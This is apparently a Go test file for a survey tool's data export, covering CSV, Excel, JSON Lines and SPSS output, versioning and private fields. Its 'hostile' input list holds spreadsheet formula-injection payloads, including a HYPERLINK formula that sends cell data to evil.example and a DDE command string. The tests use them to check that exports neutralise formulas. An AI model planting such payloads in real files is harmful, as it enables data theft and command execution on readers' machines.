package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"glasspoll"
	"glasspoll/internal/answer"
	"glasspoll/internal/export"
	"glasspoll/internal/questionnaire"
	"glasspoll/internal/survey"
	"glasspoll/internal/wording"
)

// today is the questionnaire in force, and before an older version, which asks two things in another way.
const today = `
id: service
title: {en: "=Service", zh: 服务}
languages: [en, zh]
timezone: Asia/Shanghai
scales:
  satisfaction:
    - {id: very_good, label: {en: "@Very good", zh: 很好}, score: 5}
    - {id: good, label: {en: Good, zh: 好}, score: 4.5}
    - {id: none, label: {en: No opinion, zh: 没意见}}
    - {id: refused, label: {en: "Won't say", zh: 不说}}
sections:
  - questions:
      - {id: overall, type: single_choice, scale: satisfaction, label: {en: "-Overall, isn't it?", zh: 总体}}
      - {id: why, type: multi_choice, other: true, label: {en: Why, zh: 为什么}, options: [{id: price, label: {en: Price, zh: 价格}}, {id: speed, label: {en: Speed, zh: 速度}}]}
      - {id: parts, type: matrix, scale: satisfaction, label: {en: Parts, zh: 各方面}, rows: [{id: all, label: {en: All, zh: 全部}}, {id: "1", label: {en: One, zh: 一}}]}
      - {id: needs, type: importance_matrix, scale: satisfaction, importance_scale: satisfaction, label: {en: Needs, zh: 需要}, rows: [{id: help, label: {en: Help, zh: 帮助}}]}
      - {id: stars, type: rating, steps: 3, label: {en: Stars, zh: 星}}
      - {id: visits, type: number, label: {en: Visits, zh: 次数}}
      - {id: first, type: date, label: {en: First, zh: 第一次}}
      - {id: at, type: time, label: {en: At, zh: 几点}}
      - {id: order, type: ranking, label: {en: Order, zh: 排序}, options: [{id: a, label: {en: A, zh: 甲}}, {id: b, label: {en: B, zh: 乙}}]}
      - {id: agree, type: yes_no, label: {en: Agree, zh: 同意}}
      - {id: remark, type: long_text, label: {en: Remark, zh: 意见}}
      - {id: secret, type: short_text, private: true, label: {en: Secret, zh: 秘密}}
      - {id: mail, type: email, label: {en: Mail, zh: 邮箱}}
`

const before = `
id: service
title: {en: Service, zh: 服务}
languages: [en, zh]
timezone: Asia/Shanghai
sections:
  - questions:
      - {id: overall, type: single_choice, label: {en: Overall, zh: 总体}, options: [{id: good, label: {en: Was good, zh: 曾好}}, {id: bad, label: {en: Bad, zh: 坏}}]}
      - {id: why, type: multi_choice, label: {en: Why, zh: 为什么}, options: [{id: taste, label: {en: Taste, zh: 味道}}, {id: price, label: {en: Price, zh: 价格}}]}
      - {id: remark, type: number, label: {en: Remark in numbers, zh: 意见}}
      - {id: secret, type: short_text, label: {en: No secret, zh: 不秘密}}
`

func parse(t *testing.T, source string) *survey.Survey {
	t.Helper()
	s, problems := questionnaire.Parse("service.yaml", []byte(source))
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	return s
}

func words(t *testing.T, language string) (*wording.Words, fs.FS) {
	t.Helper()
	sub, err := fs.Sub(glasspoll.Templates(), "report")
	if err != nil {
		t.Fatal(err)
	}
	catalog, err := wording.Load(sub)
	if err != nil {
		t.Fatal(err)
	}
	return catalog.In(language), sub
}

type entry struct {
	s *survey.Survey
	r answer.Response
	t time.Time
}

var noon = time.Date(2026, 10, 3, 4, 5, 9, 0, time.UTC)

func response(s *survey.Survey, n int, answers ...answer.Answer) entry {
	return entry{s, answer.Response{ID: fmt.Sprintf("6f1c9ee4-5f2b-4b3e-9a30-%012d", n), Survey: s.ID, Version: s.Version, Period: "all", Language: "en", Channel: "", Answers: answers}, noon.Add(time.Duration(n) * time.Second)}
}

func plan(t *testing.T, now *survey.Survey, language string, private bool, entries ...entry) *export.Plan {
	t.Helper()
	census := export.NewCensus()
	for i, e := range entries { // in two parts, like shards
		part := export.NewCensus()
		part.Add(e.s, e.r, e.t)
		if i%2 == 0 {
			part.Merge(census)
			census = part
		} else {
			census.Merge(part)
		}
	}
	w, _ := words(t, language)
	return export.NewPlan(now, census, export.Options{Language: language, Private: private, Words: w})
}

// write writes a table in blocks of two rows.
func write(t *testing.T, p *export.Plan, to export.Table, entries []entry) {
	t.Helper()
	encoder := to.Encoder()
	var b export.Block
	for i := 0; i < len(entries); i += len(b.Records) {
		b.Reset(i)
		for _, e := range entries[i : i+to.Room(i, min(2, len(entries)-i))] {
			b.Records = append(b.Records, p.Record(e.r, e.t))
		}
		encoder.Encode(&b)
		if err := to.Write(&b); err != nil {
			t.Fatal(err)
		}
	}
	if err := to.Close(); err != nil {
		t.Fatal(err)
	}
}

// row fills in one response.
func row(p *export.Plan, e entry) export.Row {
	r := p.Record(e.r, e.t)
	return p.Row(nil, &r)
}

// table writes CSV and reads it back, by column.
func table(t *testing.T, p *export.Plan, o export.TableOptions, entries []entry) (header []string, rows []map[string]string) {
	t.Helper()
	var b bytes.Buffer
	sink, err := export.NewCSV(&b, p, o)
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, sink, entries)
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, name := range records[0] {
			row[name] = record[i]
		}
		rows = append(rows, row)
	}
	return records[0], rows
}

func TestOneColumnAField(t *testing.T) {
	s := parse(t, today)
	e := response(s, 1, answer.Answer{"overall", "none"}, answer.Answer{"why", "speed", "_other"}, answer.Answer{"why._other", "the view"},
		answer.Answer{"parts.all", "good"}, answer.Answer{"needs.help.importance", "good"}, answer.Answer{"needs.help.satisfaction", "very_good"},
		answer.Answer{"stars", "2"}, answer.Answer{"visits", "-12.5"}, answer.Answer{"first", "2026-10-01"}, answer.Answer{"at", "09:30"},
		answer.Answer{"order.b", "1"}, answer.Answer{"agree", "no"}, answer.Answer{"remark", "fine"})
	e.r.Channel = "web"
	entries := []entry{e, response(s, 2, answer.Answer{"why", "price"})}
	header, rows := table(t, plan(t, s, "zh", false, entries...), export.TableOptions{}, entries)
	want := "_receipt _arrived _language _channel _period _version overall why.price why.speed why._other why._other_text parts.all parts.1 " +
		"needs.help.importance needs.help.satisfaction stars visits first at order.a order.b agree remark"
	if got := strings.Join(header, " "); got != want {
		t.Errorf("columns\n%s\nwant\n%s", got, want)
	}
	for name, want := range map[string]string{
		"_receipt": answer.Receipt(e.r.ID), "_arrived": "2026-10-03T12:05:10+08:00", "_language": "en", "_channel": "web", "_period": "all", "_version": s.Version,
		"overall": "none", "why.price": "0", "why.speed": "1", "why._other": "1", "why._other_text": "the view", "parts.all": "good", "parts.1": "",
		"needs.help.importance": "good", "needs.help.satisfaction": "very_good", "stars": "2", "visits": "-12.5", "first": "2026-10-01", "at": "09:30",
		"order.a": "", "order.b": "1", "agree": "no", "remark": "fine",
	} {
		if got := rows[0][name]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if r := rows[1]; r["why.price"] != "1" || r["why.speed"] != "0" || r["overall"] != "" {
		t.Errorf("the second row: %v", r)
	}

	// The same with texts.
	_, rows = table(t, plan(t, s, "zh", false, entries...), export.TableOptions{Labels: true}, entries)
	for name, want := range map[string]string{"回执编号": answer.Receipt(e.r.ID), "总体": "没意见", "为什么 [速度]": "1", "为什么 [其他（文字）]": "the view", "各方面 [全部]": "好", "需要 [帮助, 重要程度]": "好", "同意": "否", "星": "2"} {
		if got := rows[0][name]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
}

// TestOldVersions checks that the columns are the union of all versions, and that answers are read by their own version.
func TestOldVersions(t *testing.T) {
	now, old := parse(t, today), parse(t, before)
	entries := []entry{
		response(old, 1, answer.Answer{"overall", "good"}, answer.Answer{"why", "taste"}, answer.Answer{"remark", "7"}, answer.Answer{"secret", "mine"}),
		response(now, 2, answer.Answer{"overall", "good"}, answer.Answer{"why", "price"}, answer.Answer{"remark", "seven"}),
	}
	p := plan(t, now, "en", false, entries...)
	header, rows := table(t, p, export.TableOptions{}, entries)
	if tail := strings.Join(header[len(header)-3:], " "); tail != "remark why.taste remark@number" {
		t.Errorf("the last columns are %s", tail)
	}
	if r := rows[0]; r["overall"] != "good" || r["why.taste"] != "1" || r["why.price"] != "0" || r["why.speed"] != "" || r["remark@number"] != "7" || r["remark"] != "" {
		t.Errorf("old: %v", r)
	}
	if r := rows[1]; r["why.taste"] != "" || r["why.price"] != "1" || r["why.speed"] != "0" || r["remark@number"] != "" || r["remark"] != "seven" {
		t.Errorf("new: %v", r)
	}
	// Older answers to a question that is private now are private, too.
	if slices.Contains(header, "secret") {
		t.Error("an answer to a question that is private now is exported")
	}
	_, rows = table(t, p, export.TableOptions{Labels: true}, entries)
	if rows[0]["'-Overall, isn't it?"] != "Was good" || rows[1]["'-Overall, isn't it?"] != "Good" {
		t.Errorf("labels: %v", rows)
	}
	for _, e := range p.Book().Entries {
		if want := map[string]bool{"why.taste": true, "remark@number": true}[e.Name]; e.Retired != want {
			t.Errorf("%s: retired %t", e.Name, e.Retired)
		}
		if e.Name == "overall" {
			ids := ""
			for _, v := range e.Values {
				ids += fmt.Sprintf("%s=%s:%d ", v.ID, v.SPSS, v.N)
			}
			if e.N != 2 || ids != "very_good=5:0 good=4.5:2 none=97:0 refused=98:0 bad=99:0 " {
				t.Errorf("overall: %d, %s", e.N, ids)
			}
		}
	}
}

func TestPrivate(t *testing.T) {
	s := parse(t, today)
	e := response(s, 1, answer.Answer{"overall", "good"})
	e.r.Private = []answer.Answer{{"secret", "mine"}, {"mail", "a@example.org"}}
	for _, private := range []bool{false, true} {
		p := plan(t, s, "en", private, e)
		header, rows := table(t, p, export.TableOptions{}, []entry{e})
		if slices.Contains(header, "mail") != private || (rows[0]["secret"] == "mine") != private {
			t.Errorf("private %t: %v", private, rows)
		}
		var b bytes.Buffer
		write(t, p, export.NewJSONLines(&b, p), []entry{e})
		if strings.Contains(b.String(), "a@example.org") != private {
			t.Errorf("private %t: %s", private, b.String())
		}
		w, _ := words(t, "en")
		b.Reset()
		if err := p.Book().CSV(&b, w, false); err != nil || strings.Contains(b.String(), "Secret") != private {
			t.Errorf("private %t: %s, %v", private, b.String(), err)
		}
	}
}

// hostile lists texts that an attacker may type.
var hostile = []string{
	"=1+1", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'quoted'",
	"＝1+1", "－很好", "-5", "+8613800138000", "-12.75", "1e5", "00123", "a,b;c\td", `"quoted"`, "line\nbreak", "line\r\nbreak", " =1", "_x000D_ _x0041_", "<b>&amp;</b>",
	"]]>", "\u2028", "\u202eright to left", "😀", strings.Repeat("很", 2000), "NULL", "=", "'", "",
}

func TestHostileTextsInCSV(t *testing.T) {
	s := parse(t, today)
	var entries []entry
	for i, text := range hostile {
		entries = append(entries, response(s, i, answer.Answer{"remark", text}, answer.Answer{"visits", "-3"}))
	}
	var b bytes.Buffer
	p := plan(t, s, "en", false, entries...)
	sink, err := export.NewCSV(&b, p, export.TableOptions{Labels: true, BOM: true})
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, sink, entries)
	content, found := strings.CutPrefix(b.String(), "\ufeff")
	if !found || !utf8.ValidString(content) {
		t.Error("no mark, or no UTF-8")
	}
	records, err := csv.NewReader(strings.NewReader(content)).ReadAll()
	if err != nil || len(records) != 1+len(hostile) {
		t.Fatal(len(records), err)
	}
	number := regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)
	for i, record := range records {
		for _, cell := range record {
			if cell != "" && strings.ContainsAny(string([]rune(cell)[0]), "=+-@\t\r\n＝＋－＠") && !number.MatchString(cell) {
				t.Errorf("row %d: %q is a formula", i, cell)
			}
		}
	}
	remark, visits := len(records[0])-1, slices.Index(records[0], "Visits")
	for i, text := range hostile {
		got := records[i+1][remark]
		if strings.HasPrefix(got, "'") && !strings.HasPrefix(text, "'") || strings.HasPrefix(got, "''") && text != got {
			got = got[1:]
		}
		if want := strings.ReplaceAll(text, "\r\n", "\n"); got != want { // encoding/csv reads it so
			t.Errorf("%q came back as %q", text, got)
		}
		if records[i+1][visits] != "-3" {
			t.Errorf("a number became %q", records[i+1][visits])
		}
	}
}

func TestHostileTextsInExcel(t *testing.T) {
	s := parse(t, today)
	var entries []entry
	for i, text := range hostile {
		entries = append(entries, response(s, i, answer.Answer{"overall", "very_good"}, answer.Answer{"stars", "3"}, answer.Answer{"visits", "-12.125"}, answer.Answer{"first", "2026-10-01"}, answer.Answer{"remark", text}))
	}
	for _, labels := range []bool{false, true} {
		p := plan(t, s, "en", false, entries...)
		var b bytes.Buffer
		sink, err := export.NewXLSX(&b, p, export.TableOptions{Labels: labels})
		if err != nil {
			t.Fatal(err)
		}
		write(t, p, sink, entries)
		f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		if sheets := strings.Join(f.GetSheetList(), ","); sheets != "Answers,Codebook" {
			t.Errorf("sheets %s", sheets)
		}
		rows, err := f.GetRows("Answers")
		if err != nil || len(rows) != 1+len(hostile) {
			t.Fatal(len(rows), err)
		}
		for i, e := range entries {
			for j, cell := range row(p, e) {
				name, _ := excelize.CoordinatesToCellName(j+1, i+2)
				got, err := f.GetCellValue("Answers", name, excelize.Options{RawCellValue: p.Variables[j].Kind == export.Number})
				want := cell.Raw
				switch p.Variables[j].Kind {
				case export.Arrived:
					want = e.t.Add(8 * time.Hour).Format("2006-01-02 15:04:05")
				case export.Choice:
					if labels {
						want = cell.Label()
					}
				}
				if err != nil || got != want {
					t.Errorf("labels %t, %s %s: %q, want %q, %v", labels, name, p.Variables[j].Name, got, want, err)
				}
				if formula, err := f.GetCellFormula("Answers", name); formula != "" || err != nil {
					t.Errorf("%s: the formula %q, %v", name, formula, err)
				}
				if p.Variables[j].Kind == export.Text && cell.Raw != "" {
					if kind, err := f.GetCellType("Answers", name); err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
						t.Errorf("%s: %q is no text but %v, %v", name, cell.Raw, kind, err)
					}
				}
			}
		}
		book, err := f.GetRows("Codebook")
		if err != nil || book[0][0] != "Column" || !slices.ContainsFunc(book, func(r []string) bool {
			return r[0] == "overall" && len(r) > 8 && r[4] == "very_good" && r[8] == fmt.Sprint(len(hostile))
		}) {
			t.Errorf("codebook: %v, %v", book, err)
		}
	}
}

func TestJSONLines(t *testing.T) {
	s := parse(t, today)
	e := response(s, 1, answer.Answer{"overall", "good"}, answer.Answer{"why", "price", "_other"}, answer.Answer{"why._other", hostile[1]}, answer.Answer{"visits", "-0.125"}, answer.Answer{"remark", "\u2028 </script> \"\\"})
	var b bytes.Buffer
	p := plan(t, s, "en", false, e)
	write(t, p, export.NewJSONLines(&b, p), []entry{e})
	var got struct {
		Receipt, Arrived, Language, Channel, Period, Version string
		Answers                                              struct {
			Overall string
			Why     []string
			Other   string `json:"why._other"`
			Visits  json.Number
			Remark  string
		}
	}
	decoder := json.NewDecoder(&b)
	decoder.DisallowUnknownFields()
	if err := decoder.Decode(&got); err != nil {
		t.Fatal(err)
	}
	if got.Receipt != answer.Receipt(e.r.ID) || got.Arrived != "2026-10-03T12:05:10+08:00" || got.Answers.Overall != "good" || len(got.Answers.Why) != 2 ||
		got.Answers.Other != hostile[1] || got.Answers.Visits != "-0.125" || got.Answers.Remark != "\u2028 </script> \"\\" {
		t.Errorf("%+v", got)
	}
}

func TestSPSS(t *testing.T) {
	s := parse(t, today)
	entries := []entry{
		response(s, 1, answer.Answer{"overall", "very_good"}, answer.Answer{"remark", "one\ntwo, \"three\""}, answer.Answer{"first", "2026-10-01"}),
		response(s, 2, answer.Answer{"overall", "refused"}, answer.Answer{"remark", "=1"}, answer.Answer{"stars", "3"}),
	}
	p := plan(t, s, "en", false, entries...)
	var data, syntax bytes.Buffer
	sink, err := export.NewSPSS(&data, p)
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, sink, entries)
	records, err := csv.NewReader(&data).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	at := func(row int, name string) string { return records[row][slices.Index(records[0], name)] }
	if at(1, "overall") != "5" || at(2, "overall") != "98" || at(1, "remark") != `one two, "three"` || at(2, "remark") != "=1" || at(2, "stars") != "3" || at(1, "arrived") != "03-OCT-2026 12:05:10" {
		t.Errorf("%v", records)
	}
	if err := sink.Syntax(&syntax, "it's.csv"); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"  /FILE='it''s.csv'\n", "    overall F8.3\n", "    first SDATE10\n", "    stars F8.0\n", "  overall '-Overall, isn''t it?'\n",
		"VALUE LABELS overall\n  5 '@Very good'\n  4.5 'Good'\n  97 'No opinion'\n  98 'Won''t say'\n  .\n", "MISSING VALUES overall (97 THRU 98).\n",
		"VARIABLE LEVEL overall (ORDINAL).\n", "VARIABLE LEVEL visits (SCALE).\n", "VARIABLE LEVEL remark (NOMINAL).\n",
		"MRSETS /MDGROUP NAME=$why CATEGORYLABELS=VARLABELS\n  VARIABLES=\n    why.price\n    why.speed\n    why._other\n  VALUE=1\n  LABEL='Why'.\n",
		"VALUE LABELS why.price\n  0 'No'\n  1 'Yes'\n  .\n", "    remark A16\n",
	} {
		if !strings.Contains(syntax.String(), want) {
			t.Errorf("no %q in\n%s", want, syntax.String())
		}
	}
}

// TestSPSSLines gives SPSS texts and names as long as questionnaires may have them.
func TestSPSSLines(t *testing.T) {
	long := strings.Repeat("您对我们的服务'满意'吗？", 40)
	var options strings.Builder
	for i := range 30 {
		fmt.Fprintf(&options, "{id: %s%02d, label: \"%s%d\"}, ", strings.Repeat("o", 60), i, long, i)
	}
	s := parse(t, fmt.Sprintf("title: \"%[1]s\"\nlanguages: [zh]\nsections:\n  - questions:\n"+
		"      - {id: %[2]s, type: multi_choice, label: \"%[1]s\", options: [%[3]s]}\n      - {id: one, type: single_choice, label: \"%[1]s\", options: [%[3]s]}\n",
		long, strings.Repeat("q", 50), options.String()))
	p := plan(t, s, "zh", false)
	sink, err := export.NewSPSS(io.Discard, p)
	if err != nil {
		t.Fatal(err)
	}
	var syntax bytes.Buffer
	if err := sink.Syntax(&syntax, strings.Repeat("很长的文件夹/", 30)+"it's.csv"); err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(syntax.String()) {
		if len(strings.TrimSuffix(line, "\n")) > 251 || !utf8.ValidString(line) {
			t.Errorf("a line of %d bytes: %s", len(line), line)
		}
	}
	for _, label := range []string{"满意''吗？0'\n", "满意''吗？29'\n", "满意''吗？29]'\n"} {
		if !strings.Contains(syntax.String(), label) {
			t.Errorf("no %q in\n%s", label, syntax.String())
		}
	}
}

// TestSPSSNames gives SPSS many long names that are alike, and words that it keeps for itself.
func TestSPSSNames(t *testing.T) {
	var questions strings.Builder
	long := strings.Repeat("x", 60)
	for _, id := range []string{"receipt", "arrived", long, long + "_a", long + "_b", "ending_", "a1", "number"} {
		fmt.Fprintf(&questions, "      - {id: %s, type: matrix, label: Long, scale: s, rows: [{id: %s, label: L}, {id: %s2, label: L}, {id: '1', label: L}]}\n", id, long, long)
		fmt.Fprintf(&questions, "      - {id: %s_m, type: multi_choice, label: Long, options: [{id: all, label: L}, {id: by, label: L}]}\n", id[:min(len(id), 58)]+fmt.Sprint(questions.Len()%1000))
	}
	s := parse(t, "title: T\nlanguages: [en]\nscales: {s: [{id: a, label: A, score: 1}, {id: b, label: B, score: 2}]}\nsections:\n  - questions:\n"+questions.String())
	p := plan(t, s, "en", false)
	var b bytes.Buffer
	sink, err := export.NewSPSS(&b, p)
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, sink, nil)
	names := strings.Split(strings.TrimSpace(b.String()), ",")
	seen := map[string]bool{}
	valid := regexp.MustCompile(`^[a-z][a-z0-9_.]*[a-z0-9]$`)
	for _, name := range names {
		if len(name) > 64 || !valid.MatchString(name) || seen[strings.ToUpper(name)] {
			t.Errorf("%q is no name, or taken", name)
		}
		seen[strings.ToUpper(name)] = true
	}
	if len(names) != len(p.Variables) {
		t.Errorf("%d names of %d", len(names), len(p.Variables))
	}
}

func TestCodebookPage(t *testing.T) {
	s := parse(t, today)
	e := response(s, 1, answer.Answer{"overall", "very_good"})
	for _, language := range []string{"en", "zh"} {
		w, templates := words(t, language)
		var b bytes.Buffer
		if err := plan(t, s, language, true, e).Book().HTML(&b, templates, w); err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{"<code>needs.help.importance</code>", "<code>mail</code>", `lang="` + language + `"`} {
			if !strings.Contains(b.String(), want) {
				t.Errorf("%s: no %s", language, want)
			}
		}
		if strings.Contains(b.String(), "<script") || strings.Contains(b.String(), "style=") {
			t.Error("more than a page needs")
		}
	}
}

func TestWithdrawnAreLeftOut(t *testing.T) {
	s := parse(t, today)
	gone := response(s, 1)
	gone.r.Withdrawn = true
	c := export.NewCensus()
	c.Add(s, gone.r, gone.t)
	if c.Responses != 0 || c.Withdrawn != 1 || len(c.Versions()) != 0 {
		t.Errorf("%+v", c)
	}
}
